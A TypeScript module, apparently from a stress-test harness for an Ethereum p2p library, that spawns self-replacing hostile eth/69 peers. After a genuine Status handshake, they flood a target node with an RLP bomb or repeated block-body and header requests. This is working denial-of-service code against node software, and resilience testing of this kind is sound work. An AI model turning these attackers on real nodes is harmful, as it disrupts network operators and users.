/**
 * Hostile eth peers: each is its own `Server` (a fresh key) that dials the target, completes
 * RLPx, Hello and the eth/69 Status like any peer, then runs its attack on the raw message
 * stream. When the target drops one, {@link Attackers} starts another in its place until told
 * to stop, so the pressure holds for the whole attack.
 * @module
 */

import { generatePrivateKey } from '@ethp2p/crypto';
import type { Node } from '@ethp2p/enode';
import { type ChainReader, exchangeStatus, localStatus, newForkFilter } from '@ethp2p/eth';
import { ETH69 } from '@ethp2p/eth/messages';
import {
  type MsgReadWriter,
  type Protocol,
  type ProtocolPeer,
  type RunOptions,
  Server,
} from '@ethp2p/server';
import { bodiesRequest, headersRequest, rlpBomb } from './payloads.ts';

/** What an attacker does once its Status is accepted; returns when it is done or dropped. */
export type Attack = (rw: MsgReadWriter, signal: AbortSignal) => Promise<void>;

/** Sends `payload` as message `code` once, then waits to be dropped. */
export function sendOnce(code: number, payload: Uint8Array): Attack {
  return async (rw, signal) => {
    await rw.writeMsg(code, payload);
    await new Promise((resolve) => signal.addEventListener('abort', resolve, { once: true }));
  };
}

/**
 * Sends `payload` as message `code` `times` times back to back, reading and dropping every
 * response meanwhile, then stays connected.
 */
export function sendMany(code: number, payload: Uint8Array, times: number): Attack {
  return async (rw, signal) => {
    const drain = (async () => {
      for (;;) await rw.readMsg();
    })().catch(() => {});
    for (let i = 0; i < times && !signal.aborted; i++) await rw.writeMsg(code, payload);
    await drain;
  };
}

/** What attacking peers do, as plain data (it crosses to a worker thread). */
export type AttackPlan =
  | { readonly kind: 'bomb'; readonly items: number }
  | { readonly kind: 'bodies'; readonly hashes: number; readonly times: number }
  | { readonly kind: 'headers'; readonly amount: number; readonly times: number };

/** What the attack worker is started with. */
export interface AttackWorkerData {
  readonly enode: string;
  readonly count: number;
  readonly plan: AttackPlan;
}

/** The attack a plan describes, its payload encoded once. */
export function attackOf(plan: AttackPlan): Attack {
  switch (plan.kind) {
    case 'bomb':
      return sendOnce(ETH69.codecs.Transactions.code, rlpBomb(plan.items));
    case 'bodies':
      return sendMany(ETH69.codecs.GetBlockBodies.code, bodiesRequest(plan.hashes), plan.times);
    case 'headers':
      return sendMany(ETH69.codecs.GetBlockHeaders.code, headersRequest(plan.amount), plan.times);
  }
}

/** A line about what a group of attackers did. */
export function describeAttackers(a: Attackers): string {
  return `${a.started} attackers started, ${a.attacking} past Status`;
}

/** eth/69 as an attacker speaks it: a real Status, then the attack. */
class AttackProtocol implements Protocol {
  readonly name = 'eth';
  readonly version = 69;
  readonly length = ETH69.length;
  readonly #chain: ChainReader;
  readonly #attack: Attack;
  readonly #onRun: () => void;

  constructor(chain: ChainReader, attack: Attack, onRun: () => void) {
    this.#chain = chain;
    this.#attack = attack;
    this.#onRun = onRun;
  }

  async run(_peer: ProtocolPeer, rw: MsgReadWriter, { signal }: RunOptions): Promise<void> {
    const chain = this.#chain;
    const { networkId } = chain.config;
    await exchangeStatus(rw, {
      version: ETH69,
      local: localStatus(69, chain, { networkId, earliest: 0n, td: 0n }),
      rules: {
        version: 69,
        networkId,
        genesis: chain.genesis().hash,
        forkFilter: newForkFilter(chain.config, () => ({ number: 0n, time: 0n })),
      },
      signal,
    });
    this.#onRun();
    await this.#attack(rw, signal);
  }
}

/** Options of {@link Attackers}. */
export interface AttackersOptions {
  readonly target: Node;
  readonly chain: ChainReader;
  readonly attack: Attack;
  /** Attackers connected at once. */
  readonly count: number;
  /** Start another when one is dropped (default true). */
  readonly replace?: boolean;
}

/** A group of attacking peers against one target. */
export class Attackers {
  readonly #options: AttackersOptions;
  readonly #servers = new Set<Server>();
  #stopped = false;
  #started = 0;
  #attacking = 0;

  constructor(options: AttackersOptions) {
    this.#options = options;
  }

  /** Attackers started so far (replacements included). */
  get started(): number {
    return this.#started;
  }

  /** Attackers whose Status was accepted so far. */
  get attacking(): number {
    return this.#attacking;
  }

  /** Starts `count` attackers. */
  async start(): Promise<void> {
    await Promise.all(Array.from({ length: this.#options.count }, () => this.#spawn()));
  }

  async #spawn(): Promise<void> {
    if (this.#stopped) return;
    this.#started++;
    const { chain, attack, target } = this.#options;
    const server = new Server({
      privateKey: generatePrivateKey(),
      name: 'attacker',
      listenAddress: null,
      maxPeers: 1,
      protocols: [new AttackProtocol(chain, attack, () => this.#attacking++)],
    });
    this.#servers.add(server);
    server.events.on('peer:removed', () => {
      if (!this.#stopped && (this.#options.replace ?? true)) {
        this.#servers.delete(server);
        void server.stop().then(() => this.#spawn());
      }
    });
    await server.start();
    server.addPeer(target);
  }

  /** Stops every attacker and its replacements. */
  async stop(): Promise<void> {
    this.#stopped = true;
    await Promise.all([...this.#servers].map((s) => s.stop()));
    this.#servers.clear();
  }
}
